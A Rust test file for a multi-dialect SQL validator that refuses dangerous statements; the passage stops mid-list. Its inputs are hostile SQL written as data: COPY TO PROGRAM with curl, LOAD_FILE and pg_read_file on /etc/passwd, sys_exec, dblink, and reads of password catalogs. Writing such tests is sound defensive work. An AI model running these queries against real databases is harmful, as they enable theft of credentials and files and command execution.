//! Validation rules, per dialect. Threat tests are named after THREATS.md ids.

use super::*;
use airlock_core::config::{Constraints, SecretRef, TableColumns};
use airlock_core::HandleName;
use serde_json::json;

fn handle(kind: HandleKind, scope: Scope, tables: Option<&[&str]>) -> Handle {
    Handle {
        name: HandleName::parse("DB").unwrap(),
        kind,
        secret: SecretRef::Env("X".into()),
        description: String::new(),
        constraints: Constraints::Database(DatabaseConstraints {
            scope,
            tables: tables.map(|t| t.iter().map(|s| s.to_string()).collect()),
            allow_catalogs: false,
            max_rows: 100,
            max_bytes: 10_000,
            statement_timeout_ms: 1000,
            url: None,
            ..DatabaseConstraints::default()
        }),
    }
}

/// Every check in this suite runs three times: uncached, then twice through one cache shared by
/// the whole suite (a miss, then a hit), and all three must agree. Every handle here is named
/// `DB` with many different constraints, so the cache meets the same text under other rules all
/// the time and must never answer with what another rule set decided.
fn validate(h: &Handle, a: &QueryArgs) -> Result<ValidatedQuery, CallError> {
    static CACHE: std::sync::LazyLock<crate::statements::StatementCache> =
        std::sync::LazyLock::new(Default::default);
    let plain = super::validate(h, a, &check_uncached);
    for _ in 0..2 {
        let cached = super::validate(h, a, &|h, db, q| CACHE.get_or_check(h, db, q));
        assert_eq!(format!("{plain:?}"), format!("{cached:?}"), "cache disagrees on {:?}", a.query);
    }
    plain
}

const ALL: [HandleKind; 3] = [HandleKind::Postgres, HandleKind::Mysql, HandleKind::Sqlite];

fn check(h: &Handle, sql: &str) -> Result<ValidatedQuery, CallError> {
    validate(
        h,
        &QueryArgs {
            query: sql.into(),
            params: vec![],
        },
    )
}

fn code(h: &Handle, sql: &str) -> Option<ErrorCode> {
    check(h, sql).err().map(|e| e.code)
}

fn ro(kind: HandleKind) -> Handle {
    handle(kind, Scope::ReadOnly, None)
}

fn rw(kind: HandleKind) -> Handle {
    handle(kind, Scope::ReadWrite, None)
}

fn listed(kind: HandleKind, scope: Scope) -> Handle {
    handle(
        kind,
        scope,
        Some(&["orders", "public.customers", "shop.items"]),
    )
}

#[test]
fn plain_queries_pass_on_every_dialect() {
    for k in ALL {
        for sql in [
            "SELECT 1",
            "SELECT a, b FROM orders WHERE id = 3 ORDER BY a LIMIT 5",
            "WITH x AS (SELECT 1 AS a) SELECT a FROM x",
            "SELECT 1 UNION ALL SELECT 2",
            "SELECT count(*) FROM orders o JOIN customers c ON c.id = o.cid",
            "SELECT * FROM (SELECT id FROM orders) AS s",
            "select upper('x'), lower('Y'), coalesce(null, 1)",
        ] {
            assert_eq!(code(&ro(k), sql), None, "{k:?}: {sql}");
        }
    }
}

#[test]
fn comments_are_dropped_from_what_runs() {
    let q = check(&ro(HandleKind::Mysql), "SELECT 1 -- comment\n, 2 /* c */").unwrap();
    assert!(
        !q.sql().contains("comment") && !q.sql().contains("/*"),
        "{}",
        q.sql()
    );
}

#[test]
fn t02_mysql_executable_comment_is_checked_not_hidden() {
    // MySQL runs the body of /*! ... */; the validator must see it too.
    let h = ro(HandleKind::Mysql);
    assert_eq!(
        code(&h, "SELECT 1 /*! , LOAD_FILE('/etc/passwd') */"),
        Some(ErrorCode::FunctionNotAllowed)
    );
    assert_eq!(
        code(&h, "SELECT 1 /*!50000 FROM mysql.user */"),
        Some(ErrorCode::TableNotAllowed)
    );
}

#[test]
fn t02_mysql_double_dash_without_space_is_not_a_hidden_comment() {
    // In MySQL `--x` is minus minus x, not a comment: whatever sqlparser makes of it, the
    // statement that runs is the one printed from the checked tree.
    let h = ro(HandleKind::Mysql);
    assert_eq!(
        code(
            &h,
            "SELECT 1 --(SELECT authentication_string FROM mysql.user LIMIT 1)\n"
        ),
        Some(ErrorCode::TableNotAllowed)
    );
    assert_eq!(
        check(&h, "SELECT 1 --(SELECT 2)\n").unwrap().sql(),
        "SELECT 1 - -(SELECT 2)"
    );
}

#[test]
fn t02_two_statements_are_refused() {
    for k in ALL {
        assert_eq!(
            code(&ro(k), "SELECT 1; SELECT 2"),
            Some(ErrorCode::StatementNotAllowed),
            "{k:?}"
        );
        assert_eq!(
            code(&rw(k), "SELECT 1; DELETE FROM orders"),
            Some(ErrorCode::StatementNotAllowed),
            "{k:?}"
        );
    }
}

#[test]
fn empty_and_garbage_are_invalid_sql() {
    for k in ALL {
        assert_eq!(code(&ro(k), ""), Some(ErrorCode::InvalidSql));
        assert_eq!(code(&ro(k), "  ;  "), Some(ErrorCode::InvalidSql));
        assert_eq!(code(&ro(k), "SELEC 1"), Some(ErrorCode::InvalidSql));
        assert_eq!(
            code(&ro(k), "SELECT 'unterminated"),
            Some(ErrorCode::InvalidSql)
        );
    }
}

#[test]
fn t20_long_and_deep_input_is_refused_without_crashing() {
    let h = ro(HandleKind::Postgres);
    let long = format!("SELECT '{}'", "a".repeat(MAX_QUERY_BYTES));
    assert_eq!(code(&h, &long), Some(ErrorCode::LimitExceeded));
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert_eq!(code(&h, &deep), Some(ErrorCode::LimitExceeded));
}

#[test]
fn read_only_refuses_writes_ddl_and_administration() {
    for k in ALL {
        for sql in [
            "INSERT INTO orders VALUES (1)",
            "UPDATE orders SET a = 1",
            "DELETE FROM orders",
            "CREATE TABLE t (a INT)",
            "DROP TABLE orders",
            "ALTER TABLE orders ADD COLUMN b INT",
            "TRUNCATE TABLE orders",
            "GRANT SELECT ON orders TO someone",
            "BEGIN",
            "COMMIT",
            "ROLLBACK",
            "EXPLAIN SELECT 1",
        ] {
            assert_eq!(
                code(&ro(k), sql),
                Some(ErrorCode::StatementNotAllowed),
                "{k:?}: {sql}"
            );
        }
    }
}

#[test]
fn read_write_allows_dml_only() {
    for k in ALL {
        for sql in [
            "INSERT INTO orders (a) VALUES (1)",
            "UPDATE orders SET a = 1 WHERE id = 2",
            "DELETE FROM orders WHERE id = 2",
            "INSERT INTO orders (a) SELECT a FROM orders",
        ] {
            assert_eq!(code(&rw(k), sql), None, "{k:?}: {sql}");
            assert!(check(&rw(k), sql).unwrap().is_write());
        }
        for sql in [
            "CREATE TABLE t (a INT)",
            "DROP TABLE orders",
            "TRUNCATE TABLE orders",
            "COMMIT",
        ] {
            assert_eq!(
                code(&rw(k), sql),
                Some(ErrorCode::StatementNotAllowed),
                "{k:?}: {sql}"
            );
        }
    }
    assert!(!check(&rw(HandleKind::Postgres), "SELECT 1")
        .unwrap()
        .is_write());
}

#[test]
fn t02_data_modifying_cte_is_refused_when_read_only() {
    let h = ro(HandleKind::Postgres);
    assert_eq!(
        code(
            &h,
            "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"
        ),
        Some(ErrorCode::StatementNotAllowed)
    );
    assert_eq!(
        code(
            &rw(HandleKind::Postgres),
            "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"
        ),
        None
    );
}

#[test]
fn t02_copy_to_program_is_refused() {
    for h in [ro(HandleKind::Postgres), rw(HandleKind::Postgres)] {
        assert_eq!(
            code(&h, "COPY orders TO PROGRAM 'curl http://x'"),
            Some(ErrorCode::StatementNotAllowed)
        );
        assert_eq!(
            code(&h, "COPY (SELECT 1) TO '/tmp/x'"),
            Some(ErrorCode::StatementNotAllowed)
        );
        assert_eq!(
            code(&h, "COPY orders FROM PROGRAM 'id'"),
            Some(ErrorCode::StatementNotAllowed)
        );
    }
}

#[test]
fn t02_set_role_is_refused() {
    for h in [ro(HandleKind::Postgres), rw(HandleKind::Postgres)] {
        for sql in [
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "RESET ROLE",
            "SET search_path = x",
        ] {
            assert_eq!(code(&h, sql), Some(ErrorCode::StatementNotAllowed), "{sql}");
        }
    }
}

#[test]
fn t02_set_transaction_read_write_is_refused() {
    for k in ALL {
        for h in [ro(k), rw(k)] {
            let c = code(&h, "SET TRANSACTION READ WRITE");
            assert!(
                matches!(
                    c,
                    Some(ErrorCode::StatementNotAllowed | ErrorCode::InvalidSql)
                ),
                "{k:?} {c:?}"
            );
        }
    }
    assert_eq!(
        code(
            &ro(HandleKind::Postgres),
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"
        ),
        Some(ErrorCode::StatementNotAllowed)
    );
}

#[test]
fn administration_statements_are_refused_in_every_scope() {
    let cases: &[(HandleKind, &str)] = &[
        (HandleKind::Postgres, "DO $$ BEGIN PERFORM 1; END $$"),
        (HandleKind::Postgres, "LOCK TABLE orders"),
        (HandleKind::Postgres, "PREPARE s AS SELECT 1"),
        (HandleKind::Postgres, "EXECUTE s"),
        (HandleKind::Postgres, "VACUUM"),
        (HandleKind::Postgres, "LISTEN x"),
        (HandleKind::Postgres, "SHOW ALL"),
        (
            HandleKind::Postgres,
            "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
        ),
        (HandleKind::Postgres, "ALTER SYSTEM SET x = 1"),
        (
            HandleKind::Mysql,
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders",
        ),
        (HandleKind::Mysql, "SET GLOBAL general_log = 1"),
        (HandleKind::Mysql, "SHOW GRANTS"),
        (HandleKind::Mysql, "LOCK TABLES orders READ"),
        (HandleKind::Mysql, "CREATE USER x IDENTIFIED BY 'y'"),
        (HandleKind::Sqlite, "ATTACH DATABASE '/tmp/x.db' AS x"),
        (HandleKind::Sqlite, "PRAGMA writable_schema = 1"),
        (HandleKind::Sqlite, "VACUUM INTO '/tmp/copy.db'"),
        (HandleKind::Sqlite, "DETACH DATABASE x"),
    ];
    for (k, sql) in cases {
        for h in [ro(*k), rw(*k)] {
            let c = code(&h, sql);
            assert!(
                matches!(
                    c,
                    Some(ErrorCode::StatementNotAllowed | ErrorCode::InvalidSql)
                ),
                "{k:?} {sql}: {c:?}"
            );
        }
    }
}

#[test]
fn t02_into_outfile_is_refused() {
    for h in [ro(HandleKind::Mysql), rw(HandleKind::Mysql)] {
        for sql in [
            "SELECT * FROM orders INTO OUTFILE '/tmp/x'",
            "SELECT * FROM orders INTO DUMPFILE '/tmp/x'",
            "SELECT a INTO @v FROM orders",
        ] {
            let c = code(&h, sql);
            assert!(
                matches!(
                    c,
                    Some(ErrorCode::StatementNotAllowed | ErrorCode::InvalidSql)
                ),
                "{sql}: {c:?}"
            );
        }
    }
    assert_eq!(
        code(
            &rw(HandleKind::Postgres),
            "SELECT * INTO newtable FROM orders"
        ),
        Some(ErrorCode::StatementNotAllowed)
    );
}

#[test]
fn for_update_needs_read_write() {
    for k in [HandleKind::Postgres, HandleKind::Mysql] {
        assert_eq!(
            code(&ro(k), "SELECT * FROM orders FOR UPDATE"),
            Some(ErrorCode::StatementNotAllowed)
        );
        assert_eq!(
            code(&ro(k), "SELECT * FROM orders FOR SHARE"),
            Some(ErrorCode::StatementNotAllowed)
        );
        assert_eq!(code(&rw(k), "SELECT * FROM orders FOR UPDATE"), None);
    }
}

#[test]
fn optimizer_hints_are_refused() {
    // SET_VAR could lift the server-side statement timeout for one statement.
    let c = code(
        &ro(HandleKind::Mysql),
        "SELECT /*+ SET_VAR(max_execution_time=0) */ 1",
    );
    assert_eq!(c, Some(ErrorCode::StatementNotAllowed));
    let c = code(
        &rw(HandleKind::Mysql),
        "UPDATE /*+ SET_VAR(max_execution_time=0) */ orders SET a = 1",
    );
    assert!(
        matches!(
            c,
            Some(ErrorCode::StatementNotAllowed | ErrorCode::InvalidSql)
        ),
        "{c:?}"
    );
}

#[test]
fn t01_pg_authid_is_refused() {
    let h = ro(HandleKind::Postgres);
    for sql in [
        "SELECT rolpassword FROM pg_catalog.pg_authid",
        "SELECT * FROM pg_authid",
        "SELECT * FROM PG_CATALOG.PG_AUTHID",
        "SELECT * FROM \"pg_catalog\".\"pg_authid\"",
        "SELECT * FROM test.pg_catalog.pg_authid",
        "SELECT 1 UNION TABLE pg_authid",
        "SELECT 1 UNION TABLE pg_catalog.pg_authid",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::TableNotAllowed), "{sql}");
    }
    // A bare TABLE statement does not parse in this sqlparser version; refused either way.
    let c = code(&h, "TABLE pg_authid");
    assert!(
        matches!(c, Some(ErrorCode::TableNotAllowed | ErrorCode::InvalidSql)),
        "{c:?}"
    );
}

#[test]
fn t01_unqualified_pg_shadow_is_refused() {
    let h = ro(HandleKind::Postgres);
    for t in [
        "pg_shadow",
        "pg_user_mappings",
        "pg_stat_activity",
        "pg_settings",
        "Pg_Shadow",
    ] {
        assert_eq!(
            code(&h, &format!("SELECT * FROM {t}")),
            Some(ErrorCode::TableNotAllowed),
            "{t}"
        );
    }
}

#[test]
fn t01_information_schema_is_refused() {
    for k in ALL {
        for sql in [
            "SELECT * FROM information_schema.tables",
            "SELECT * FROM INFORMATION_SCHEMA.COLUMNS",
            "SELECT * FROM orders WHERE id IN (SELECT 1 FROM information_schema.tables)",
        ] {
            assert_eq!(
                code(&ro(k), sql),
                Some(ErrorCode::TableNotAllowed),
                "{k:?}: {sql}"
            );
        }
    }
    let h = ro(HandleKind::Mysql);
    for sql in [
        "SELECT * FROM mysql.user",
        "SELECT * FROM `mysql`.`user`",
        "SELECT * FROM performance_schema.threads",
        "SELECT * FROM sys.processlist",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::TableNotAllowed), "{sql}");
    }
    let h = ro(HandleKind::Sqlite);
    for sql in [
        "SELECT * FROM sqlite_master",
        "SELECT sql FROM main.sqlite_schema",
        "SELECT * FROM sqlite_temp_master",
        "SELECT * FROM sqlite_sequence",
        "SELECT * FROM pragma_table_info('orders')",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::TableNotAllowed), "{sql}");
    }
}

#[test]
fn catalogs_allowed_when_the_handle_says_so() {
    let mut h = ro(HandleKind::Postgres);
    if let Constraints::Database(d) = &mut h.constraints {
        d.allow_catalogs = true;
    }
    assert_eq!(code(&h, "SELECT * FROM pg_catalog.pg_tables"), None);
    assert_eq!(code(&h, "SELECT * FROM information_schema.tables"), None);
    assert_eq!(code(&h, "SELECT pg_get_viewdef('v'::regclass)"), None);
    assert_eq!(
        code(&h, "SELECT format_type(23, NULL), current_database()"),
        None
    );
    // Catalogs open catalog functions, not the file system, settings or other sessions.
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT current_setting('data_directory')",
        "SELECT pg_stat_get_activity(NULL)",
        "SELECT pg_sleep(1)",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
}

#[test]
fn allow_list_matches_names_and_default_schemas() {
    let h = listed(HandleKind::Postgres, Scope::ReadOnly);
    for ok in [
        "SELECT * FROM orders",
        "SELECT * FROM ORDERS",
        "SELECT * FROM public.orders",
        "SELECT * FROM customers",
        "SELECT * FROM public.customers",
        "SELECT * FROM shop.items",
        "SELECT * FROM orders o JOIN customers c ON o.id = c.id",
    ] {
        assert_eq!(code(&h, ok), None, "{ok}");
    }
    for bad in [
        "SELECT * FROM secrets",
        "SELECT * FROM other.orders",
        "SELECT * FROM items",
        "SELECT * FROM public.items",
        "SELECT * FROM \"Orders\"",
        "SELECT * FROM orders, secrets",
        "SELECT * FROM orders JOIN secrets ON true",
    ] {
        assert_eq!(code(&h, bad), Some(ErrorCode::TableNotAllowed), "{bad}");
    }
    let h = listed(HandleKind::Sqlite, Scope::ReadOnly);
    assert_eq!(code(&h, "SELECT * FROM main.orders"), None);
    assert_eq!(
        code(&h, "SELECT * FROM temp.orders"),
        Some(ErrorCode::TableNotAllowed)
    );
    let h = listed(HandleKind::Mysql, Scope::ReadOnly);
    assert_eq!(code(&h, "SELECT * FROM `Orders`"), None);
    assert_eq!(code(&h, "SELECT * FROM shop.items"), None);
    assert_eq!(
        code(&h, "SELECT * FROM otherdb.orders"),
        Some(ErrorCode::TableNotAllowed)
    );
}

#[test]
fn mysql_default_database_comes_from_the_handle_url() {
    let mut h = listed(HandleKind::Mysql, Scope::ReadOnly);
    if let Constraints::Database(d) = &mut h.constraints {
        d.url = Some("mysql://app@db.internal:3306/Shop".into());
    }
    assert_eq!(code(&h, "SELECT * FROM shop.orders"), None);
    assert_eq!(code(&h, "SELECT * FROM items"), None);
    assert_eq!(
        code(&h, "SELECT * FROM other.orders"),
        Some(ErrorCode::TableNotAllowed)
    );
}

#[test]
fn t01_table_outside_allow_list_in_subquery_is_refused() {
    for k in ALL {
        let h = listed(k, Scope::ReadOnly);
        for sql in [
            "SELECT * FROM orders WHERE id IN (SELECT id FROM secrets)",
            "SELECT (SELECT token FROM secrets LIMIT 1) FROM orders",
            "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM secrets)",
            "SELECT * FROM (SELECT * FROM (SELECT * FROM secrets) a) b",
            "SELECT id FROM orders UNION SELECT token FROM secrets",
            "SELECT * FROM orders ORDER BY (SELECT 1 FROM secrets)",
        ] {
            assert_eq!(
                code(&h, sql),
                Some(ErrorCode::TableNotAllowed),
                "{k:?}: {sql}"
            );
        }
    }
}

#[test]
fn t01_table_in_cte_is_checked() {
    for k in ALL {
        let h = listed(k, Scope::ReadOnly);
        assert_eq!(
            code(&h, "WITH x AS (SELECT * FROM orders) SELECT * FROM x"),
            None,
            "{k:?}"
        );
        assert_eq!(
            code(
                &h,
                "WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y"
            ),
            None,
            "{k:?}"
        );
        for sql in [
            "WITH x AS (SELECT * FROM secrets) SELECT * FROM x",
            "WITH x AS (SELECT 1) SELECT * FROM x, secrets",
            // a CTE name does not cover the same name outside its scope
            "SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) a, secrets",
            // a non-recursive CTE body cannot see itself: `secrets` there is the real table
            "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
            // nor later CTEs
            "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a",
            // a qualified name is never a CTE
            "WITH orders AS (SELECT 1) SELECT * FROM other.orders",
        ] {
            assert_eq!(
                code(&h, sql),
                Some(ErrorCode::TableNotAllowed),
                "{k:?}: {sql}"
            );
        }
    }
    let h = listed(HandleKind::Postgres, Scope::ReadOnly);
    assert_eq!(
        code(&h, "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r"),
        None
    );
    // PostgreSQL folds unquoted names: "X" is not x.
    assert_eq!(
        code(&h, "WITH \"X\" AS (SELECT 1) SELECT * FROM x"),
        Some(ErrorCode::TableNotAllowed)
    );
    assert_eq!(code(&h, "WITH x AS (SELECT 1) SELECT * FROM \"x\""), None);
}

#[test]
fn dml_targets_are_real_tables_even_when_a_cte_has_their_name() {
    let h = listed(HandleKind::Postgres, Scope::ReadWrite);
    assert_eq!(code(&h, "INSERT INTO orders (a) VALUES (1)"), None);
    for sql in [
        "WITH secrets AS (SELECT 1) DELETE FROM secrets",
        "WITH secrets AS (SELECT 1) UPDATE secrets SET a = 1",
        "WITH secrets AS (SELECT 1) INSERT INTO secrets VALUES (1)",
        "INSERT INTO secrets SELECT * FROM orders",
        "INSERT INTO orders SELECT * FROM secrets",
        "UPDATE orders SET a = (SELECT token FROM secrets)",
        "DELETE FROM orders WHERE id IN (SELECT id FROM secrets)",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::TableNotAllowed), "{sql}");
    }
    let h = listed(HandleKind::Mysql, Scope::ReadWrite);
    assert_eq!(
        code(&h, "DELETE s FROM orders o JOIN secrets s ON o.id = s.id"),
        Some(ErrorCode::TableNotAllowed)
    );
    assert_eq!(
        code(
            &h,
            "UPDATE orders o JOIN secrets s ON o.id = s.id SET s.a = 1"
        ),
        Some(ErrorCode::TableNotAllowed)
    );
}

#[test]
fn t01_current_setting_is_refused() {
    let h = ro(HandleKind::Postgres);
    for sql in [
        "SELECT current_setting('password_encryption')",
        "SELECT pg_catalog.current_setting('x')",
        "SELECT CURRENT_SETTING('x')",
        "SELECT set_config('x', 'y', false)",
        "SELECT * FROM orders WHERE a = current_setting('x')",
        "SELECT pg_stat_get_activity(NULL)",
        "SELECT query_to_xml('select * from pg_authid', true, true, '')",
        "SELECT table_to_xml('pg_authid', true, true, '')",
        "SELECT ts_stat('select 1')",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
    // A catalog-named table function is a catalog first.
    assert_eq!(
        code(&h, "SELECT * FROM pg_stat_get_activity(NULL)"),
        Some(ErrorCode::TableNotAllowed)
    );
    assert_eq!(code(&h, "SELECT pg_typeof(1), version()"), None);
}

#[test]
fn t02_load_file_is_refused() {
    for h in [ro(HandleKind::Mysql), rw(HandleKind::Mysql)] {
        for sql in [
            "SELECT LOAD_FILE('/etc/passwd')",
            "SELECT load_file('/etc/passwd') FROM orders",
            "SELECT SLEEP(10)",
            "SELECT BENCHMARK(1000000, MD5('x'))",
            "SELECT GET_LOCK('x', 10)",
            "SELECT sys_exec('id')",
        ] {
            assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
        }
    }
    for sql in [
        "SELECT load_extension('/tmp/x.so')",
        "SELECT readfile('/etc/passwd')",
        "SELECT writefile('/tmp/x', 'y')",
    ] {
        assert_eq!(
            code(&ro(HandleKind::Sqlite), sql),
            Some(ErrorCode::FunctionNotAllowed),
            "{sql}"
        );
    }
}

#[test]
fn t02_pg_read_file_and_sleep_are_refused() {
    let h = rw(HandleKind::Postgres);
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('/etc/passwd')",
        "SELECT pg_stat_file('x')",
        "SELECT pg_sleep(10)",
        "SELECT pg_sleep_for('1 minute')",
        "SELECT pg_terminate_backend(1)",
        "SELECT pg_reload_conf()",
        "SELECT 1 WHERE (SELECT pg_sleep(1)) IS NULL",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
    // In FROM, a catalog-named table function is refused as a catalog.
    for sql in [
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT * FROM orders, LATERAL pg_ls_dir('.')",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::TableNotAllowed), "{sql}");
    }
}

#[test]
fn t02_lo_export_is_refused() {
    let h = rw(HandleKind::Postgres);
    for sql in [
        "SELECT lo_export(1234, '/tmp/x')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_get(1234)",
        "SELECT lo_from_bytea(0, 'x')",
        "SELECT pg_catalog.lo_export(1, '/tmp/y')",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
}

#[test]
fn t02_dblink_is_refused() {
    let h = ro(HandleKind::Postgres);
    for sql in [
        "SELECT dblink('host=x', 'select 1')",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "SELECT dblink_exec('host=x', 'drop table x')",
        "SELECT public.dblink_connect('x')",
    ] {
        assert_eq!(code(&h, sql), Some(ErrorCode::FunctionNotAllowed), "{sql}");
    }
}

#[test]
fn params_are_typed_and_counted() {
    let h = ro(HandleKind::Postgres);
    let args = |q: &str, p: serde_json::Value| QueryArgs {
        query: q.into(),
        params: serde_json::from_value(p).unwrap(),
    };
    let q = validate(
        &h,
        &args(
            "SELECT $1, $2, $3, $4, $5",
            json!([null, true, 7, 1.5, "x"]),
        ),
    )
    .unwrap();
    assert_eq!(
        q.params,
        vec![
            Param::Null,
            Param::Bool(true),
            Param::Int(7),
            Param::Float(1.5),
            Param::Text("x".into())
        ]
    );
    assert_eq!(
        validate(&h, &args("SELECT $1", json!([u64::MAX])))
            .unwrap()
            .params,
        vec![Param::UInt(u64::MAX)]
    );
    assert_eq!(
        validate(&h, &args("SELECT $1, $1", json!([1])))
            .unwrap()
            .param_count(),
        1
    );
    for (sql, p) in [
        ("SELECT $1", json!([])),
        ("SELECT $1", json!([1, 2])),
        ("SELECT 1", json!([1])),
        ("SELECT $1", json!([[1]])),
        ("SELECT $1", json!([{"a": 1}])),
    ] {
        let e = validate(&h, &args(sql, p.clone())).unwrap_err();
        assert_eq!(e.code, ErrorCode::InvalidArguments, "{sql} {p}");
    }
    let e = validate(&h, &args("SELECT ?", json!([1]))).unwrap_err();
    assert!(
        matches!(e.code, ErrorCode::InvalidArguments | ErrorCode::InvalidSql),
        "{e}"
    );
    for k in [HandleKind::Mysql, HandleKind::Sqlite] {
        let h = ro(k);
        assert!(
            validate(&h, &args("SELECT ?, ?", json!([1, "a"]))).is_ok(),
            "{k:?}"
        );
        assert_eq!(
            validate(&h, &args("SELECT ?", json!([]))).unwrap_err().code,
            ErrorCode::InvalidArguments
        );
        assert_eq!(
            validate(&h, &args("SELECT $1", json!([1])))
                .unwrap_err()
                .code,
            ErrorCode::InvalidArguments,
            "{k:?}"
        );
    }
}

#[test]
fn query_args_refuse_unknown_fields() {
    assert!(serde_json::from_value::<QueryArgs>(json!({"query": "SELECT 1", "sql": "x"})).is_err());
    let a: QueryArgs = serde_json::from_value(json!({"query": "SELECT 1"})).unwrap();
    assert!(a.params.is_empty());
}

#[test]
fn literals_survive_normalisation_verbatim() {
    let h = ro(HandleKind::Mysql);
    for sql in [
        r"SELECT 'a\'b'",
        r"SELECT '\\'",
        "SELECT 'it''s'",
        r#"SELECT "dq""#,
        r"SELECT 'x\\', 'y'",
    ] {
        let q = check(&h, sql).unwrap();
        assert_eq!(q.sql(), sql);
    }
    let h = ro(HandleKind::Postgres);
    for sql in [
        r"SELECT 'a\'",
        "SELECT 'it''s'",
        "SELECT E'a\\'b'",
        "SELECT $$x'y$$",
    ] {
        let q = check(&h, sql).unwrap();
        assert_eq!(q.sql(), sql);
    }
}

#[test]
fn non_database_handles_are_refused() {
    let mut h = ro(HandleKind::Postgres);
    h.kind = HandleKind::Http;
    assert_eq!(code(&h, "SELECT 1"), Some(ErrorCode::HandleUnavailable));
}

// ---------------------------------------------------------------------------------------------
// T25: functions by allow-list, columns by rule. T26: writes anywhere in the tree.

fn with(kind: HandleKind, scope: Scope, f: impl FnOnce(&mut DatabaseConstraints)) -> Handle {
    let mut h = handle(kind, scope, None);
    if let Constraints::Database(d) = &mut h.constraints {
        f(d);
    }
    h
}

fn allowing(kind: HandleKind, scope: Scope, functions: &[&str]) -> Handle {
    with(kind, scope, |d| {
        d.allow_functions = functions.iter().map(|s| s.to_string()).collect()
    })
}

fn message(h: &Handle, sql: &str) -> String {
    check(h, sql).err().map(|e| e.message).unwrap_or_default()
}

#[test]
fn t25_everyday_functions_of_each_dialect_pass() {
    let common = [
        "SELECT upper(a), lower(a), length(a), replace(a, 'x', 'y'), substr(a, 1, 2) FROM orders",
        "SELECT coalesce(a, 0), nullif(a, 1), abs(a), round(a), count(*), sum(a), avg(a), min(a), max(a) FROM orders",
        "SELECT a, row_number() OVER (ORDER BY a), rank() OVER (PARTITION BY b ORDER BY a), lag(a) OVER (ORDER BY a) FROM orders",
        "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END, CAST(a AS CHAR(3)) FROM orders",
    ];
    for k in ALL {
        for sql in common {
            assert_eq!(code(&ro(k), sql), None, "{k:?}: {sql}");
        }
    }
    for sql in [
        "SELECT now(), current_date, date_trunc('day', now()), extract(year FROM now()), to_char(now(), 'YYYY')",
        "SELECT jsonb_build_object('a', 1), json_agg(a), string_agg(b, ','), array_agg(a) FROM orders",
        "SELECT greatest(1, 2), least(1, 2), md5('x'), gen_random_uuid(), pg_typeof(1), version()",
        "SELECT g FROM generate_series(1, 3) g",
        "SELECT * FROM unnest(ARRAY[1, 2]) AS u(x)",
        "SELECT x FROM jsonb_array_elements('[1]'::jsonb) x",
        "SELECT pg_catalog.lower('X'), PG_CATALOG.UPPER('x'), \"pg_catalog\".\"lower\"('x'), \"lower\"('x')",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a) FROM orders",
    ] {
        assert_eq!(code(&ro(HandleKind::Postgres), sql), None, "{sql}");
    }
    for sql in [
        "SELECT IF(a > 1, 'x', 'y'), IFNULL(a, 0), DATE_FORMAT(NOW(), '%Y'), GROUP_CONCAT(b SEPARATOR ','), JSON_OBJECT('a', a) FROM orders",
        "SELECT LEFT(b, 2), CONCAT_WS('-', a, b), `lower`(b), DATE_ADD(NOW(), INTERVAL 1 DAY) FROM orders",
    ] {
        assert_eq!(code(&ro(HandleKind::Mysql), sql), None, "{sql}");
    }
    for sql in [
        "SELECT printf('%d', a), iif(a > 1, 1, 0), strftime('%Y', 'now'), json_extract(b, '$.x'), total(a) FROM orders",
        "SELECT value FROM json_each('[1, 2]')",
    ] {
        assert_eq!(code(&ro(HandleKind::Sqlite), sql), None, "{sql}");
    }
}

#[test]
fn t25_extension_and_user_functions_are_refused_by_default() {
    let h = ro(HandleKind::Postgres);
    for sql in [
        // tablefunc reads any table through the query text it is given.
        "SELECT * FROM crosstab('SELECT usename, 1, passwd FROM pg_shadow') AS ct(a text, b text)",
        "SELECT * FROM connectby('secrets', 'id', 'parent', '1', 0) AS t(id int, parent int, level int)",
        "SELECT * FROM orders, LATERAL crosstab('SELECT 1') AS ct(a int)",
        "SELECT * FROM xpath_table('id', 'doc', 'secrets', '/x', 'true') AS t(id int, x text)",
        "SELECT normal_rand(10, 0, 1)",
        "SELECT dblink('host=x', 'select 1')",
        "SELECT my_fn()",
        "SELECT public.my_fn()",
        "SELECT * FROM orders WHERE a = my_fn(a)",
        "SELECT upper(my_fn(a)) FROM orders",
        "SELECT sum(a) FILTER (WHERE my_fn(a) > 0) FROM orders",
        "SELECT nextval('s')",
        "SELECT setval('s', 1)",
        "SELECT currval('s'), lastval()",
        "SELECT txid_current()",
        "SELECT current_user, session_user",
        "SELECT current_database()",
        "SELECT set_config('statement_timeout', '0', false)",
        "SELECT pg_advisory_lock(1)",
        "SELECT lo_create(0)",
        "SELECT has_table_privilege('pg_authid', 'select')",
